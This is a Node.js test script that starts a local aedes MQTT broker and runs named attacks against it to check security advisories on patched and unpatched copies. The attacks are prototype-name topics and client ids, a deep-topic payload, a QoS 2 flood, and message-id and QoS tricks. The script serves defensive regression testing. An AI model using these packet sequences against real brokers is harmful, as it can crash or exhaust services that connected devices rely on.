// One attack on a bare aedes broker, in a process of its own (a successful attack
// crashes it): `node attack.mjs <aedes directory> <attack>`. Prints one JSON line:
// what the attacker and a second client saw, and whether the process survived.
// Used by advisories.test.ts against the patched aedes and an unpatched copy.
import { connect as tcpConnect, createServer } from 'node:net';
import { pathToFileURL } from 'node:url';
import mqttPacket from 'mqtt-packet';

const [aedesDir, attack] = process.argv.slice(2);
const { Aedes } = await import(pathToFileURL(`${aedesDir}/aedes.js`).href);
const broker = await Aedes.createBroker({ maxInflightInbound: 100 });
const server = createServer(broker.handle);
await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
const port = server.address().port;
process.on('uncaughtException', (err) => {
  process.stdout.write(`${JSON.stringify({ crashed: true, error: String(err.message).slice(0, 200) })}\n`);
  process.exit(0);
});

/**
 * A connection that sends `packets` and records every packet the broker sends, until
 * `until(seen)` holds or the broker closes it. Nothing here waits for time: each attack ends
 * at a packet that shows the broker is past the point (its answer to the attack, or a
 * PINGRESP sent once the broker has written what came before it); `timeoutMs` only bounds a
 * broker that never answers. (aedes handles the packets of one read concurrently, so a
 * PINGREQ in the same write as the attack is no barrier: it follows the answer instead.)
 */
function open(version, packets, { until = () => false, timeoutMs = 10_000 } = {}) {
  const socket = tcpConnect({ port, host: '127.0.0.1' });
  const parser = mqttPacket.parser({ protocolVersion: version });
  const seen = [];
  const waiters = [];
  let closed = false;
  let finished = false;
  const done = new Promise((resolve) => {
    const finish = () => {
      finished = true;
      clearTimeout(timer);
      socket.destroy();
      resolve({ seen, closedByBroker: closed });
    };
    const timer = setTimeout(finish, timeoutMs);
    parser.on('packet', (p) => {
      seen.push({ cmd: p.cmd, qos: p.qos, reasonCode: p.reasonCode, returnCode: p.returnCode, granted: p.granted, payload: p.payload?.toString() });
      for (const w of waiters.splice(0)) if (!w()) waiters.push(w);
      if (until(seen)) finish();
    });
    socket.on('close', () => {
      if (!finished) closed = true;
      finish();
    });
  });
  socket.on('data', (d) => parser.parse(d));
  socket.on('error', () => undefined);
  socket.on('connect', () => {
    for (const p of packets) socket.write(mqttPacket.generate(p, { protocolVersion: version }));
  });
  return {
    done,
    send: (p) => socket.write(mqttPacket.generate(p, { protocolVersion: version })),
    /** Resolves once the broker has sent a packet of `cmd` (or closed the connection). */
    reached: (cmd) =>
      new Promise((resolve) => {
        const w = () => (seen.some((p) => p.cmd === cmd) || closed ? (resolve(), true) : false);
        if (!w()) waiters.push(w);
        void done.then(resolve);
      }),
  };
}

const session = (version, packets, options) => open(version, packets, options).done;
const PINGREQ = { cmd: 'pingreq' };
const got = (cmd, n = 1) => (seen) => seen.filter((p) => p.cmd === cmd).length >= n;

/** Polls a condition on this process's broker (a few ms at a time) until it holds; rejects after `ms`. */
async function brokerReached(condition, what, ms = 10_000) {
  const deadline = Date.now() + ms;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`broker: ${what} not within ${ms} ms`);
    await new Promise((r) => setTimeout(r, 5));
  }
}

const connect = (clientId, extra = {}, version = 4) => ({
  cmd: 'connect',
  protocolId: 'MQTT',
  protocolVersion: version,
  clientId,
  clean: true,
  keepalive: 60,
  ...extra,
});
const out = {};
switch (attack) {
  case 'prototype-subscribe':
    out.attacker = await session(4, [connect('x'), { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'constructor', qos: 0 }] }], {
      until: got('suback'),
    });
    break;
  case 'prototype-unsubscribe':
    out.attacker = await session(4, [connect('x'), { cmd: 'unsubscribe', messageId: 1, unsubscriptions: ['toString'] }], { until: got('unsuback') });
    break;
  case 'prototype-client-id':
    // Packets after a CONNECT wait for its CONNACK: this PINGRESP follows the CONNECT's handling.
    out.attacker = await session(4, [connect('constructor'), PINGREQ], { until: got('pingresp') });
    break;
  case 'deep-topic': {
    const deep = Array.from({ length: 150 }, () => 'a').join('/');
    const answered = (seen) => ['suback', 'unsuback', 'puback', 'pingresp'].every((cmd) => got(cmd)(seen));
    out.attacker = await session(4, [
      connect('x', { will: { topic: deep, payload: Buffer.from('w'), qos: 0, retain: false } }),
      { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: deep, qos: 0 }] },
      { cmd: 'unsubscribe', messageId: 2, unsubscriptions: [deep] },
      { cmd: 'publish', topic: deep, payload: Buffer.from('x'), qos: 1, messageId: 3 },
      PINGREQ,
    ], { until: answered }); // the broker closes the connection
    break;
  }
  case 'qos2-flood': {
    // Every message held (300 PUBRECs), or the connection dropped.
    const flood = Array.from({ length: 300 }, (_, i) => ({ cmd: 'publish', topic: 't', payload: Buffer.from('x'), qos: 2, messageId: i + 1 }));
    out.attacker = await session(4, [connect('flooder'), ...flood], { until: got('pubrec', 300) });
    break;
  }
  case 'clean-session-qos2-residue': {
    // A clean session leaves a QoS 2 message without PUBREL; the next clean session reuses the id.
    await session(4, [connect('dup'), { cmd: 'publish', topic: 'residue', payload: Buffer.from('old'), qos: 2, messageId: 42 }], { until: got('pubrec') });
    const subscriber = open(4, [connect('watcher'), { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'residue', qos: 2 }] }], {
      until: got('pingresp'),
    });
    await subscriber.reached('suback');
    const attacker = open(4, [connect('dup'), { cmd: 'publish', topic: 'residue', payload: Buffer.from('new'), qos: 2, messageId: 42 }], {
      until: got('pubcomp'),
    });
    await attacker.reached('pubrec');
    attacker.send({ cmd: 'pubrel', messageId: 42 });
    out.attacker = await attacker.done;
    // A released message went to the subscriber before the PUBCOMP: its PINGRESP comes after it.
    subscriber.send(PINGREQ);
    out.subscriber = await subscriber.done;
    break;
  }
  case 'qos-downgrade': {
    const subscriber = open(4, [connect('sub1'), { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'plant/#', qos: 1 }] }], { until: got('publish') });
    await subscriber.reached('suback');
    const attacker = open(4, [connect('pub2'), { cmd: 'publish', topic: 'plant/line-1', payload: Buffer.from('x'), qos: 2, messageId: 7 }], {
      until: got('pubcomp'),
    });
    await attacker.reached('pubrec');
    attacker.send({ cmd: 'pubrel', messageId: 7 });
    out.attacker = await attacker.done;
    out.subscriber = await subscriber.done;
    break;
  }
  case 'dedupe-reorder': {
    // Retained and QoS 1 messages interleaved: numbered in one order, emitted in another.
    const subscriber = open(4, [connect('sub-all'), { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'mix/#', qos: 1 }] }], {
      until: got('pingresp'),
    });
    await subscriber.reached('suback');
    let published = 0;
    broker.on('publish', (_packet, client) => {
      if (client?.id === 'pub-mix') published++;
    });
    const packets = [connect('pub-mix')];
    for (let i = 0; i < 100; i++) {
      packets.push({ cmd: 'publish', topic: 'mix/retained', payload: Buffer.from(`r${i}`), qos: 0, retain: true });
      packets.push({ cmd: 'publish', topic: 'mix/plain', payload: Buffer.from(`p${i}`), qos: 0, retain: false });
      packets.push({ cmd: 'publish', topic: 'mix/qos1', payload: Buffer.from(`q${i}`), qos: 1, messageId: i + 1 });
    }
    const attacker = open(4, packets, { until: got('puback', 100) });
    // aedes emits 'publish' once a message has been handed to every subscriber: then the
    // subscriber's PINGRESP comes after all that was written to it.
    await brokerReached(() => published === 300, 'all 300 messages published');
    out.attacker = await attacker.done;
    subscriber.send(PINGREQ);
    out.subscriber = await subscriber.done;
    break;
  }
  default:
    throw new Error(`unknown attack ${attack}`);
}
out.probe = await session(4, [connect('probe'), PINGREQ], { until: got('pingresp') });
out.crashed = false;
process.stdout.write(`${JSON.stringify(out)}\n`);
process.exit(0);
